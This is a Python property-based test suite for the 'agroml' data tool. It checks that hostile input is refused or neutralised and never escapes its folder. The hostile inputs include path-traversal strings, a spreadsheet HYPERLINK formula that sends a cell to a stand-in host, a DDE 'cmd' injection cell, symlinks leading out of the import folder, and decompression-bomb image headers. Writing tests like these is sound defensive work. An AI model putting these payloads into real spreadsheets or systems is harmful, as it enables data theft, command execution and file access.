"""Bad input, property-based: whatever a row, a file or a folder holds, agroml gives a valid result or a
clear AgromlError, never another exception, a path outside its folder, or a cell a spreadsheet would run.

Hypothesis draws the inputs (profiles in conftest.py: the default run is small; HYPOTHESIS_PROFILE=soak
draws many more). A failing example is printed by hypothesis and kept in .hypothesis/ so it replays.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import math
import os
import tempfile
import unicodedata
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from PIL import Image

from agroml.core import config, schema
from agroml.core.errors import AgromlError
from agroml.data import records as rec
from agroml.data.exporting import FORMULA_STARTS, export_records
from agroml.data.importing import import_folder
from agroml.data.sources import LocalSource
from agroml.data.store import Store
from agroml.images.cache import ImageCache, ImageRejected, verify_image
from agroml.images.pixels import CORRUPT, check_image, pillow_rgb

#: HYPOTHESIS_PROFILE=soak draws SOAK times the examples of the default run (minutes instead of seconds)
SOAK = 20 if os.environ.get("HYPOTHESIS_PROFILE") == "soak" else 1


def budget(n: int) -> int:
    """Examples for one property: ``n`` in the default run, ``SOAK * n`` in a soak run."""
    return n * SOAK


#: a starved shared machine runs these many times slower than an idle one; never a reason to fail
pytestmark = pytest.mark.timeout(900)


# --- hostile values ---------------------------------------------------------------------------------
RTL_AND_ODD = ["مرض الذبول", "כנימה", "Blätterläuse", "कीट", "🐛🌽", "a\u200fb", "\u202eevil", "NUL\x00byte"]
PATHLIKE = ["../../etc/passwd", "..\\..\\boot.ini", "a/b", "/abs/olute", "C:\\x", ".", "..", "~root"]
ODD_TIMES = [
    "2025-03-02T10:00:00Z",
    "2025-03-02T10:00:00+14:00",
    "2025-03-02T10:00:00-12:00",
    "2025-03-02T10:00:00.123456789+05:45",
    "2025-03-02 10:00:00",
    "2025-02-30T10:00:00Z",
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "1970-01-01T00:00:00+00:00",
    "yesterday",
    "",
    "2025-03-02T10:00:00 Africa/Nairobi",
]
texts = st.one_of(
    st.text(max_size=40),
    st.sampled_from(RTL_AND_ODD + PATHLIKE + ODD_TIMES),
    st.sampled_from(["Aphids " * 5_000, "ü\u0301" * 20_000]),  # huge strings (35-40 kB): drawn, not built, to stay fast
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    texts,
)
json_values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
PEST_COLUMNS = list(dict.fromkeys(schema.table_spec("pest").select_columns()))
rows = st.lists(
    st.dictionaries(st.sampled_from([*PEST_COLUMNS, "unexpected"]), json_values, max_size=len(PEST_COLUMNS) + 1),
    min_size=1,
    max_size=6,
)


def _is_label(value: Any) -> bool:
    """A canonical label: words of letters, marks and digits joined by "_", so never a path."""
    return (
        isinstance(value, str)
        and value != ""
        and all(unicodedata.category(c)[0] in "LMN" for part in value.split("_") for c in part)
        and "" not in value.split("_")
    )


@settings(max_examples=budget(40), deadline=None)
@given(rows=rows, model=st.sampled_from(["pest", "disease", "storage"]))
def test_any_json_row_normalizes_to_a_valid_record_or_an_invalid_reason(rows, model):
    spec = schema.table_spec(model)
    try:
        normalized = rec.normalize_rows(rows, spec, "supabase", "salt")
    except AgromlError:
        return  # a clear error is allowed; anything else fails the test
    out = normalized.records
    assert list(out.columns) == rec.arrow_schema(include_personal=True).names
    assert len(out) == len(rows)
    assert sum(normalized.invalid.values()) == int(out["invalid_reason"].notna().sum())
    rec.to_arrow(out, include_personal=True)  # the exact Arrow schema: what the store and Parquet take
    for row in out.to_dict("records"):
        for name in ("predicted_label", "actual_label", "label", "crop", "severity", "growth_stage"):
            value = row[name]
            assert value is None or _is_label(value), (name, value)
        if row["invalid_reason"] is None:  # valid rows are what analysis and training trust
            assert row["id"] and row["image_url"] and row["predicted_label"]
            assert 0 <= row["confidence"] <= 1
            assert row["created_at"].tzinfo is not None and not pd.isna(row["created_at"])
            assert row["feedback"] in rec.FEEDBACK_VALUES
            assert (row["label"] is not None) == (row["feedback"] in (rec.CONFIRMED, rec.CORRECTED))
        else:
            assert row["invalid_reason"] in rec.INVALID_REASONS
        if row["extra"] is not None:
            json.loads(row["extra"])


@settings(max_examples=budget(15), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=rows)
def test_normalized_rows_round_trip_through_the_store(rows):
    """What normalization accepts, the store keeps: the same count back, per invalid reason."""
    for i, row in enumerate(rows):  # distinct ids, else the upsert merges them (correctly)
        row["id"] = f"r{i}"
    normalized = rec.normalize_rows(rows, schema.table_spec("pest"), "supabase", "salt")
    with tempfile.TemporaryDirectory() as tmp, Store(Path(tmp) / "s.db") as store:
        store.upsert(normalized.records)
        back = store.read("pest")
        assert len(back) == len(rows)
        assert back["invalid_reason"].value_counts().to_dict() == normalized.invalid


# --- CSV cells a spreadsheet would run ----------------------------------------------------------------
NUMBERS = {"confidence", "latitude", "longitude"}
formula_texts = st.one_of(
    st.tuples(st.sampled_from([*FORMULA_STARTS, " ", "'", "a", "1"]), st.text(max_size=12)).map("".join),
    st.sampled_from(['=HYPERLINK("http://x.example/?"&A1,"x")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-1+2", "\t=1"]),
)


@settings(max_examples=budget(15), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cells=st.lists(st.tuples(formula_texts, formula_texts, formula_texts), min_size=1, max_size=5))
def test_csv_export_neutralizes_every_formula_cell_and_keeps_the_text(cells):
    raw = [
        {
            "id": f"{a}#{i}",
            "farmer_id": b,
            "image_url": f"https://x.example/{i}.jpg",
            "pest_detected": "aphids",
            "confidence_score": -0.0 if i % 2 else 0.5,
            "user_confirmed": True,
            "user_feedback": c,
            "farm_location": a,
            "latitude": -1.25,
            "created_at": "2025-03-01T10:00:00+00:00",
            "image_metadata": {"note": b},
        }
        for i, (a, b, c) in enumerate(cells)
    ]
    with tempfile.TemporaryDirectory() as tmp:
        settings_ = config.resolve({"data_dir": Path(tmp) / "data"}, environ={}, env_file=None)
        with Store(settings_.db_path) as store:
            store.upsert(rec.normalize_rows(raw, schema.table_spec("pest"), "supabase", store.salt()).records)
            stored = {r["id"]: r for r in store.read("pest", include_personal=True).to_dict("records")}
        result = export_records(LocalSource(settings_), "pest", "all", "csv", Path(tmp) / "out", include_personal=True)
        with open(result.files[0].path, encoding="utf-8", newline="") as fh:
            read = list(csv.DictReader(fh))
    assert len(read) == len(stored)
    for row in read:
        for name, cell in row.items():  # nothing a spreadsheet would run, but a negative number
            assert name in NUMBERS or not cell.startswith(FORMULA_STARTS), (name, cell)
        original = stored[row["id"][1:] if row["id"].startswith("'") and row["id"][1:] in stored else row["id"]]
        for name in ("id", "farmer_id", "feedback_text", "location"):
            value = original[name]
            want = "" if value is None or (isinstance(value, float) and math.isnan(value)) else str(value)
            if want.startswith(FORMULA_STARTS):
                want = "'" + want
            assert row[name] == want, (name, row[name], want)
        assert row["latitude"] == "-1.25"  # numbers stay numbers


# --- image bytes ---------------------------------------------------------------------------------------
MODES = ["1", "L", "LA", "P", "PA", "RGB", "RGBA", "CMYK", "I;16", "I", "F", "YCbCr", "LAB", "HSV"]
FORMATS = ["PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP"]


@st.composite
def encoded_images(draw: st.DrawFn) -> bytes:
    """An image of any mode, format, size (1x1 up), EXIF orientation and frame count Pillow will write."""
    mode, fmt = draw(st.sampled_from(MODES)), draw(st.sampled_from(FORMATS))
    w, h = draw(st.integers(1, 40)), draw(st.integers(1, 40))
    seed = draw(st.integers(0, 255))
    img = Image.new("RGB", (w, h), (seed, 255 - seed, seed // 2))
    try:
        img = img.convert(mode)
    except (ValueError, OSError):
        assume(False)
    kw: dict[str, Any] = {}
    orientation = draw(st.integers(1, 8))
    if orientation != 1 and fmt in ("JPEG", "PNG", "WEBP", "TIFF"):
        exif = Image.Exif()
        exif[0x0112] = orientation
        kw["exif"] = exif.tobytes()
    if fmt in ("GIF", "PNG", "WEBP") and draw(st.booleans()):  # animated
        kw.update(save_all=True, append_images=[img.copy() for _ in range(draw(st.integers(1, 3)))])
    buf = io.BytesIO()
    try:
        img.save(buf, fmt, **kw)
    except (OSError, ValueError, KeyError, TypeError):
        assume(False)  # Pillow cannot write this mode in this format: nothing to test
    return buf.getvalue()


@st.composite
def damaged(draw: st.DrawFn, images: st.SearchStrategy[bytes]) -> bytes:
    data = draw(images)
    how = draw(st.sampled_from(["whole", "truncated", "flipped", "appended"]))
    if how == "truncated":
        return data[: draw(st.integers(0, max(0, len(data) - 1)))]
    if how == "flipped":
        at = draw(st.integers(0, len(data) - 1))
        return data[:at] + bytes([data[at] ^ draw(st.integers(1, 255))]) + data[at + 1 :]
    if how == "appended":
        return data + draw(st.binary(max_size=64))
    return data


image_bytes = st.one_of(st.binary(max_size=256), damaged(encoded_images()))


@settings(
    max_examples=budget(100), deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much]
)
@given(data=image_bytes)
def test_image_bytes_are_cached_only_if_training_decodes_them(data):
    """The cache's verdict and training's decode agree: accepted bytes decode to upright RGB, others are refused."""
    try:
        ext, width, height = verify_image(data, max_bytes=1_000_000)
    except ImageRejected as exc:
        assert exc.reason and exc.message
        return
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"x.{ext}"
        path.write_bytes(data)
        assert check_image(path) is None, "the cache accepted bytes that training leaves out"
        with Image.open(path) as img:
            pixels = pillow_rgb(img)
    assert pixels.dtype.name == "uint8" and pixels.ndim == 3 and pixels.shape[2] == 3
    assert sorted(pixels.shape[:2]) == sorted((width, height))


def _png_header(width: int, height: int) -> bytes:
    import struct
    import zlib

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))


@pytest.mark.parametrize(("width", "height"), [(30000, 30000), (1, 2**31 - 1), (65535, 65535)])
def test_a_huge_image_header_is_refused_before_any_pixel_is_decoded(tmp_path, width, height):
    data = _png_header(width, height) + b"\x00" * 64
    with pytest.raises(ImageRejected) as err:
        verify_image(data, max_bytes=1_000_000)
    assert err.value.reason in ("decompression_bomb", "truncated", "not_an_image")
    path = tmp_path / "huge.png"
    path.write_bytes(data)
    assert check_image(path) == CORRUPT  # training never tries to allocate 30000 x 30000 x 3 bytes


# --- hostile import folders -------------------------------------------------------------------------
FOLDER_NAMES = ["..", "...", "a..b", "aphids", "Fall Armyworm", "مرض", "\u202eevil", "~", "-rf", "$HOME", "a\\b"]
FILE_KINDS = ["jpeg", "png", "empty", "text_as_jpg", "truncated", "link_out", "link_in", "broken_link", "html"]


def _file_bytes(kind: str) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 6), (30, 160, 40)).save(buf, "PNG" if kind == "png" else "JPEG")
    data = buf.getvalue()
    return {"empty": b"", "text_as_jpg": b"not a photo\n", "truncated": data[: len(data) // 2], "html": b"<html>"}.get(
        kind, data
    )


@settings(max_examples=budget(15), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    layout=st.lists(
        st.tuples(
            st.one_of(st.sampled_from(FOLDER_NAMES), st.binary(min_size=1, max_size=6)),
            st.lists(st.tuples(st.sampled_from(FILE_KINDS), st.binary(min_size=1, max_size=8)), max_size=4),
        ),
        min_size=1,
        max_size=4,
    )
)
def test_import_of_a_hostile_folder_reads_only_inside_it_and_counts_every_file(layout):
    with tempfile.TemporaryDirectory() as tmp:
        root, outside = Path(tmp) / "collection", Path(tmp) / "outside.jpg"
        outside.write_bytes(_file_bytes("jpeg"))
        root.mkdir()
        made, good = 0, 0
        for folder_name, files in layout:
            name = folder_name if isinstance(folder_name, bytes) else os.fsencode(folder_name)
            name = name.replace(b"/", b"_").replace(b"\x00", b"_")
            if name in (b".", b"..") or name.startswith(b"."):
                name = b"x" + name  # the OS gives "." and ".." their own meaning; hidden ones are tested elsewhere
            folder = os.path.join(os.fsencode(root), name)
            os.makedirs(folder, exist_ok=True)
            for i, (kind, file_name) in enumerate(files):
                target = os.path.join(folder, file_name.replace(b"/", b"_").replace(b"\x00", b"_") + b"%d.jpg" % i)
                if os.path.lexists(target):
                    continue
                if kind == "link_out":
                    os.symlink(outside, target)
                elif kind == "broken_link":
                    os.symlink(os.fsencode(tmp) + b"/missing.jpg", target)
                elif kind == "link_in":
                    inside = os.path.join(folder, b"real%d.png" % i)
                    Path(os.fsdecode(inside)).write_bytes(_file_bytes("png"))
                    os.symlink(inside, target)
                    made, good = made + 1, good + 1
                else:
                    Path(os.fsdecode(target)).write_bytes(_file_bytes(kind))
                made += 1
                good += kind in ("jpeg", "png", "link_in")
        settings_ = config.resolve({"data_dir": Path(tmp) / "data"}, environ={}, env_file=None)
        try:
            summary = import_folder(settings_, root, "pest")
        except AgromlError:
            return
        with Store(settings_.db_path) as store:
            stored = store.read("pest") if store.count() else rec.empty_records()
        labelled = {rec.normalize_label(p.name) for p in root.iterdir()}
        skipped = sum(summary.skipped.values())
        assert summary.images + skipped == summary.files_seen == made  # every file imported or counted
        assert len(stored) == summary.images <= good
        for url, extra in zip(stored["image_url"], stored["extra"], strict=True):
            assert url.startswith(root.resolve().as_uri() + "/")  # never the file outside the folder
            assert ".." not in json.loads(extra)["relative_path"].split("/")
        assert set(stored["label"]) <= labelled
        cache = Path(settings_.image_dir)
        for file in cache.rglob("*"):
            assert file.resolve().is_relative_to(cache.resolve())


# --- paths from the database ----------------------------------------------------------------------------
hostile_hashes = st.one_of(
    st.sampled_from(["../../../../etc/passwd", "..", "../x", "/etc/passwd", "ab/../../x", "", "\x00", "a" * 300]),
    st.text(max_size=70),
)
hostile_exts = st.one_of(st.sampled_from(["jpg", "../../../x", "/etc/passwd", "", "jpg/../../y"]), st.text(max_size=10))


@settings(max_examples=budget(60), deadline=None)
@given(sha=hostile_hashes, ext=hostile_exts, url=st.text(max_size=30))
def test_image_paths_from_the_store_and_index_never_leave_the_cache(sha, ext, url):
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / "images"
        with ImageCache(root) as cache:
            cache.index.execute("INSERT INTO urls(url, sha256, ext, fetched_at) VALUES (?, ?, ?, 0)", (url, sha, ext))
            found = [cache.path_for(sha, ext), cache.find(sha), cache.lookup(url), *cache.lookup_many([url]).values()]
        for path in found:
            if path is not None:
                assert path.resolve().is_relative_to(root.resolve()), path


def test_every_export_file_lands_in_the_export_folder(tmp_path):
    """Export names come from agroml's own model types and scopes, whatever the store's rows say."""
    settings_ = config.resolve({"data_dir": tmp_path / "data"}, environ={}, env_file=None)
    raw = [
        {
            "id": "../../x",
            "image_url": "../../y.jpg",
            "pest_detected": "../../z",
            "confidence_score": 0.5,
            "user_confirmed": True,
            "created_at": "2025-03-01T10:00:00Z",
        }
    ]
    with Store(settings_.db_path) as store:
        store.upsert(rec.normalize_rows(raw, schema.table_spec("pest"), "../..", store.salt()).records)
    out = tmp_path / "exports"
    for fmt in ("csv", "json", "parquet"):
        for path in export_records(
            LocalSource(settings_), "all", "all", fmt, out, now=datetime(2025, 1, 1, tzinfo=UTC)
        ).paths:
            assert path.resolve().parent == out.resolve()
    assert {p.parent for p in tmp_path.rglob("*") if p.is_file()} <= {out, tmp_path / "data"}


# --- a damaged store ------------------------------------------------------------------------------------
PAGE = 4096


@functools.cache
def _store_bytes() -> bytes:
    """A store of 300 AgroShield-shaped pest rows (no images: `stats` reads rows only)."""
    from supa_rows import pest_rows

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "agroml.db"
        with Store(path) as store:
            store.upsert(rec.normalize_rows(pest_rows(300, seed=1), schema.table_spec("pest"), "supabase", "s").records)
        return path.read_bytes()


def _stats(data_dir: Path) -> Any:
    from typer.testing import CliRunner

    from agroml.cli.main import app

    env = {"AGROML_DATA_DIR": str(data_dir), "AGROML_SOURCE": "local", "AGROML_DEBUG": ""}
    return CliRunner().invoke(app, ["stats", "--json"], env=env, catch_exceptions=True)


@settings(max_examples=budget(10), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(how=st.sampled_from(["truncated", "page"]), where=st.floats(0.0, 1.0), noise=st.binary(min_size=16, max_size=16))
def test_a_damaged_store_gives_the_exact_figures_or_one_error_line(how, where, noise):
    good = _store_bytes()
    pages = len(good) // PAGE
    if how == "truncated":
        data = good[: int(where * (len(good) - 1))]
    else:  # one whole page of garbage, anywhere after the header page
        page = 1 + int(where * (pages - 2))
        data = good[: page * PAGE] + (noise * (PAGE // 16)) + good[(page + 1) * PAGE :]
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "data").mkdir()
        (Path(tmp) / "data" / "agroml.db").write_bytes(good)
        want = _stats(Path(tmp) / "data")
        assert want.exit_code == 0, want.output
        (Path(tmp) / "data" / "agroml.db").write_bytes(data)
        got = _stats(Path(tmp) / "data")
    if got.exit_code == 0:  # the damage missed every page stats reads: the figures must be the same
        assert json.loads(got.stdout)["models"] == json.loads(want.stdout)["models"]
    else:
        lines = got.stderr.strip().splitlines()
        assert got.exit_code == 1 and "Traceback" not in got.output
        assert len(lines) == 1 and lines[0].startswith("error: "), got.stderr
